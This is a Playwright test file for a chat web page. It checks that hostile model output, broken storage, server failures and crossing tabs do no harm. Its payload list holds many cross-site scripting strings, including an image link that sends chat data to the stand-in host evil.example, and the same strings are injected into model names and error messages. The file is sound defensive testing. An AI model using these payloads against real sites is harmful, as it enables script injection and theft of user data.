"""The chat page under attack: hostile answers, a server that fails, broken storage, tabs that cross each other."""

from __future__ import annotations

import json
import re
from itertools import pairwise

import pytest

from .browsing import answers, ask, fits, opened, ready, stream
from .running import serve

PAYLOADS = [
    "<script>window.bad = 1</script>",
    "<img src=x onerror=window.bad=1>",
    "<svg onload=window.bad=1><animate onbegin=window.bad=1 attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.bad=1</script>'></iframe><object data=javascript:bad=1></object>",
    "[x](javascript:window.bad=1) [y](JaVaScRiPt&colon;bad=1) [z](data:text/html,<script>bad=1</script>)",
    "[a]( \x01javascript:bad=1) <javascript:bad=1> [b](java\nscript:bad=1) [c](//evil.example/) [d](/v1/sessions)",
    "![x](https://evil.example/?chat=secret) ![y](x' onerror='bad=1) <img src='https://evil.example/'>",
    "[x](https://a.b \"' onmouseover=bad=1 autofocus onfocus=bad=1 x='\")",
    '```"><script>bad=1</script>\n</code></pre><script>bad=1</script>\n```',
    "`</code><img src=x onerror=bad=1>` **<b onclick=bad=1>x</b>**",
    "| <td onload=bad=1> |\n|---|\n| <script>bad=1</script> |",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=bad=1&gt;'>",
    "<form id=text action=https://evil.example><input name=attributes><button formaction=javascript:bad=1>x</form>",
    "<style>@import 'https://evil.example/x.css'; body { display: none }</style><link rel=stylesheet href=//b.c>",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<a id=frame name=body href='javascript:bad=1'>x</a><div id=log class=unseen style='position:fixed;inset:0'>",
    "&lt;script&gt;bad=1&lt;/script&gt; \\<script>bad=1\\</script> <scr<script>ipt>bad=1</script>",
    "<template><script>bad=1</script></template><noscript><p title='</noscript><img src=x onerror=bad=1>'>",
    "{{constructor.constructor('bad=1')()}} ${window.bad=1} <!--><script>bad=1</script>--> ]]><script>bad=1</script>",
    "\u202e\u2066txt.exe\x00\x07 \ud83d\ude42 \u2028\u2029",
]
FOREIGN = """() => {
  const markdown = 'P BR HR H3 H4 H5 H6 EM STRONG DEL A CODE PRE BLOCKQUOTE UL OL LI TABLE THEAD TBODY TR TH TD';
  const named = new Set(`${markdown} DIV BUTTON`.split(' '));
  const bad = [...document.querySelectorAll('.text *')].filter((element) => !named.has(element.tagName) ||
    [...element.attributes].some(({name}) => name.startsWith('on') || ['style', 'id', 'name', 'src'].includes(name)) ||
    (element.href && !/^(https?|mailto):/.test(element.href)));
  return bad.map((element) => element.outerHTML);
}"""
HOME = "[...document.querySelectorAll('.text a')].filter((link) => link.hostname === location.hostname).length"


@pytest.fixture(scope="module")
def server():
    with serve(budget=64) as running:
        yield running


@pytest.fixture
def page(chromium, server):
    with opened(chromium, server) as found:
        found.wait_for_selector("#text")
        yield found


def harmless(page):
    page.wait_for_timeout(50)  # for an image that fails to load
    assert page.evaluate("window.bad") is None
    assert page.evaluate(FOREIGN) == []
    assert page.evaluate(HOME) == 0
    assert page.is_visible("#text")
    assert page.evaluate("document.querySelectorAll('script').length") == 3


@pytest.mark.long
def test_what_a_model_writes_never_runs(page):
    answers(page, *PAYLOADS)  # all in one text, too, where one may open what another closes
    ask(page, "All")
    harmless(page)
    for payload in PAYLOADS:
        middle = len(payload) // 2
        answers(page, payload[:middle], payload[middle:])
        ask(page, payload)
        harmless(page)
    page.reload()
    page.locator("#list button:first-child").first.click()
    page.locator("article").nth(2 * len(PAYLOADS) + 1).wait_for()
    harmless(page)
    assert "<script>window.bad = 1</script>" in page.locator("article.assistant").nth(1).inner_text()


@pytest.mark.long
def test_names_errors_and_tokens_never_run_either(chromium, server):
    bad = "<img src=x onerror=window.bad=1><script>window.bad=1</script>"
    card = {"id": f"/models/{bad}", "kvkeep": {"policy": bad, "budget": 64, "policies": [bad]}}
    memory = {"seen_tokens": 1, "budget": 64, "heads": 1, "positions": [0], "shares": [1], "texts": [bad], "pins": []}
    usage = {"completion_tokens": 1, "prompt_tokens": 1, "prompt_tokens_details": {"cached_tokens": 0}}
    with opened(chromium, server) as page:
        page.route("**/v1/models", lambda route: route.fulfill(json={"data": [card, {**card, "id": bad}]}))
        page.reload()
        page.wait_for_selector("#text")
        last = {"choices": [], "memory": [memory], "usage": {**usage, "kvkeep": {"kv_bytes": 1}}}
        answers(page, "x", **last)
        ask(page, bad)
        page.unroute("**/v1/chat/completions")
        refusal = {"error": {"message": bad}}
        page.route("**/v1/chat/completions", lambda route: route.fulfill(status=400, json=refusal))
        ask(page, bad)
        assert bad in page.inner_text("#held")
        assert page.inner_text("article .wrong") == bad
        page.click("#open-settings")
        page.wait_for_timeout(50)
        assert page.evaluate("window.bad") is None
        assert page.evaluate("document.querySelectorAll('img').length") == 0


@pytest.mark.slow
@pytest.mark.parametrize(
    ("answer", "message"),
    [
        ({"status": 429, "json": {"error": {"message": "32 requests wait."}}}, "32 requests wait. It is busy: try"),
        ({"status": 503, "json": {"error": {"message": "It ends."}}}, "It ends. It takes no requests now"),
        ({"status": 502, "body": "<html>proxy</html>"}, "The server answered 502."),
        (None, "The connection to the server was lost."),
        ({"status": 200, "body": stream("Half an answ", end=False)}, "The connection to the server was lost."),
        ({"status": 200, "body": stream(error={"message": "A step failed."})}, "A step failed."),
        ({"status": 200, "body": "data: {broken\n\n"}, "JSON"),
    ],
)
def test_failures_are_told_and_nothing_is_lost(page, answer, message):
    page.route("**/v1/chat/completions", lambda route: route.fulfill(**answer) if answer else route.abort())
    ask(page, "A message that is not lost")
    assert message in page.inner_text("article .wrong")
    assert "A message that is not lost" in page.inner_text("article.user")
    ask(page, "Another one")
    page.unroute("**/v1/chat/completions")
    with page.expect_request("**/v1/chat/completions") as sent:
        page.get_by_role("button", name="Try again").last.click()
    roles = [message["role"] for message in sent.value.post_data_json["messages"]]
    assert all(one != other for one, other in pairwise(roles))  # as templates want it
    page.wait_for_selector("article .hint")
    ready(page)


@pytest.mark.slow
def test_a_server_that_is_not_there_yet(chromium, server):
    with opened(chromium, server) as page:
        page.route("**/v1/models", lambda route: route.abort())
        page.reload()
        page.get_by_text("The connection to the server was lost.").wait_for()
        assert not page.is_visible("#key")
        page.unroute("**/v1/models")
        page.get_by_role("button", name="Try again").click()
        page.wait_for_selector("#text")


BROKEN = [
    *("", "null", "7", "[]", "{}", '"x"', '{"id": "x"}', '{"id": "x", "name": 1, "messages": {}}'),
    json.dumps({"id": "x", "name": "Ring", "leaf": "a", "messages": {"a": {"id": "a", "parent": "a", "text": "t"}}}),
    json.dumps({"id": "x", "name": "Lost", "leaf": "gone", "messages": {"a": {"text": 7}}}),
]


@pytest.mark.slow
@pytest.mark.parametrize("setting", ["null", "7", "{broken", '["a"]'])
def test_broken_storage_breaks_nothing(page, setting):
    page.evaluate(f"localStorage['kvkeep:settings'] = {json.dumps(setting)}")
    page.evaluate("sessionStorage['kvkeep:memory'] = '[[1], 2'")
    for i, text in enumerate(BROKEN):
        page.evaluate(f"localStorage['kvkeep:conversation:{'x' if i > 7 else i}'] = {json.dumps(text)}")
    page.reload()
    page.wait_for_selector("#text")
    answers(page, "Well")
    ask(page, "Hello")
    assert page.locator("article.assistant .text").inner_text() == "Well"
    for button in page.locator("#list button:first-child").all():
        button.click()
    page.click("#open-settings")
    page.keyboard.press("Enter")


@pytest.mark.slow
@pytest.mark.parametrize(
    "breaks",
    [
        "Object.defineProperty(window, 'localStorage', { get() { throw new DOMException('no', 'SecurityError') } })",
        "Storage.prototype.setItem = () => { throw new DOMException('full', 'QuotaExceededError') }",
    ],
)
def test_a_browser_that_stores_nothing_can_chat(chromium, server, breaks):
    with opened(chromium, server) as page:
        page.context.add_init_script(breaks)
        page.reload()
        page.wait_for_selector("#text")
        answers(page, "Well")
        for _ in range(2):
            ask(page, "Hello")
        assert page.locator("article").count() == 4
        page.click("#theme")
        page.click("#open-settings")
        page.get_by_role("button", name="Done").click()
        page.wait_for_selector("#settings", state="hidden")


@pytest.mark.slow
def test_two_tabs_lose_nothing_of_each_other(page, server):
    answers(page, "Well")
    ask(page, "Shared")
    other = page.context.new_page()
    other.goto(server.url)
    answers(other, "Well")
    other.get_by_role("button", name="Shared", exact=True).click()
    ask(other, "From the other")
    page.get_by_text("From the other").wait_for()  # it is shown here at once
    ask(page, "From the first")
    other.get_by_text("From the first").wait_for()
    assert page.inner_text("#log") == other.inner_text("#log")
    other.get_by_role("button", name="Delete Shared").click(force=True)
    page.locator("article").first.wait_for(state="detached")
    assert not other.get_by_role("button", name="Shared", exact=True).count()


@pytest.mark.slow
def test_an_answer_goes_on_where_it_began(chromium, server):
    """Another conversation is opened, renamed and deleted while an answer is written."""
    with opened(chromium, server, max_tokens="300") as page:
        answers(page, "Well")
        ask(page, "First")
        page.click("#new")
        page.unroute("**/v1/chat/completions")
        page.fill("#text", "Second")
        page.press("#text", "Enter")
        page.get_by_role("button", name="First", exact=True).click()
        assert page.locator("article.assistant .text").inner_text() == "Well"
        page.get_by_role("button", name="Rename Second").click(force=True)
        page.keyboard.type("Third")
        page.keyboard.press("Enter")
        ready(page)
        assert page.locator("article.assistant .text").inner_text() == "Well"
        page.get_by_role("button", name="Third").first.click()
        page.get_by_text(re.compile(r"\d+ tokens ·")).wait_for()
        page.fill("#text", "Gone")
        page.press("#text", "Enter")
        page.get_by_role("button", name=re.compile("Delete .*Third")).click(force=True)
        ready(page)
        page.reload()
        page.wait_for_selector("#list button")
        assert page.locator("#list li").count() == 1
        assert server.idle()


@pytest.mark.slow
def test_a_page_that_is_left_keeps_what_was_written(chromium, server):
    with opened(chromium, server, max_tokens="3000") as page:
        page.fill("#text", "Once upon a time")
        page.press("#text", "Enter")
        page.wait_for_selector("article.assistant .text > *")
        page.reload()
        page.get_by_role("button", name="Once upon a time", exact=True).click()
        page.get_by_text("The page was left while this was written.").wait_for()
        assert page.locator("article.assistant .text").inner_text()
        assert server.idle()


@pytest.mark.slow
def test_a_page_without_https_has_ids_and_copies(chromium, server):
    """Beyond localhost such a page has no clipboard and no crypto.randomUUID."""
    with opened(chromium, server) as page:
        page.context.add_init_script("delete Crypto.prototype.randomUUID; delete Navigator.prototype.clipboard")
        page.reload()
        page.wait_for_selector("#text")
        answers(page, "```\ncode\n```")
        ask(page, "Hello")
        page.get_by_role("button", name="Copy the code").click()
        page.get_by_text("Copied").wait_for()


@pytest.mark.slow
@pytest.mark.parametrize(
    "text", ["> " * 5000, "*" * 50_000, "[" * 20_000, "| a " * 3000 + "\n" + "|-" * 3000, "x" * 300_000]
)
def test_an_absurd_answer_holds_nothing_up(page, text):
    answers(page, text)
    ask(page, "Hello")
    assert fits(page)
    assert page.locator("article.assistant .text > *").count()


@pytest.mark.slow
def test_the_keyboard_keeps_its_place(page):
    """Buttons that are made anew keep the focus, or give it to the message's box."""
    answers(page, "Well")
    ask(page, "Hello")
    focus = "document.activeElement.textContent || document.activeElement.id"
    for name, after in (("Pin", "Unpin"), ("Unpin", "Pin"), ("Regenerate", "text"), ("‹", "text"), ("›", "text")):
        page.get_by_text(name, exact=True).last.focus()
        page.keyboard.press("Enter")
        ready(page)
        assert page.evaluate(focus) == after, name
    page.get_by_role("button", name="Rename Hello").focus()
    page.keyboard.press("Enter")
    page.keyboard.press("Escape")
    assert page.evaluate(focus) == "text"
    page.keyboard.type("one")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("two")
    assert page.input_value("#text") == "one\ntwo"


@pytest.mark.slow
def test_thirty_turns_stay_within_every_width(page):
    for turn in range(30):
        answers(page, f"{turn}: " + "a_long_name." * 30)
        ask(page, f"Turn {turn}")
    assert page.locator("article").count() == 60
    for width in (1280, 768, 390):
        page.set_viewport_size({"width": width, "height": 800})
        page.wait_for_timeout(50)
        assert fits(page), width


@pytest.mark.slow
def test_what_is_edited_stays_while_other_things_change(chromium, server):
    with opened(chromium, server, max_tokens="200") as page:
        answers(page, "Well")
        ask(page, "First")
        page.get_by_role("button", name="Edit").click()
        page.keyboard.type(" changed")
        other = page.context.new_page()
        other.goto(server.url)
        answers(other, "Well")
        ask(other, "Second")
        page.get_by_role("button", name="Second", exact=True).wait_for()
        assert page.input_value(".edit textarea") == "First changed"
        page.keyboard.press("Escape")
        page.unroute("**/v1/chat/completions")
        page.fill("#text", "Long")
        page.press("#text", "Enter")
        page.get_by_role("button", name="Rename First").click(force=True)
        ready(page)
        page.keyboard.press("Control+A")
        page.keyboard.type("Renamed")
        page.keyboard.press("Enter")
        page.get_by_role("button", name="Renamed", exact=True).wait_for()
        assert page.locator("article").count() == 4
